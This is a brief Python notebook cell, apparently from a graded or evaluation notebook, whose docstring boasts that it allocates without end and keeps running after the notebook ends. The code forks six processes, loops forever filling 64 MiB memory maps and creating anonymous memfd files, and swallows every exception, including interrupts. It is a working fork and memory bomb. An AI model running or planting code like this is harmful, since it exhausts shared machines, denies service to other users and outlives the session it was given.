"""Allocates without end, in itself and in forks, in /dev/shm and in anonymous files; the notebook ends, the run goes on."""
# part: 3
# earns: 0
# %%
# MODEL
# %%
import mmap
import os

for _ in range(6):
    if os.fork() == 0:
        break
kept = []
while True:
    try:
        kept.append(mmap.mmap(-1, 64 * 2**20))
        kept[-1].write(b"x" * (64 * 2**20))
        os.memfd_create("x")
    except BaseException:
        pass
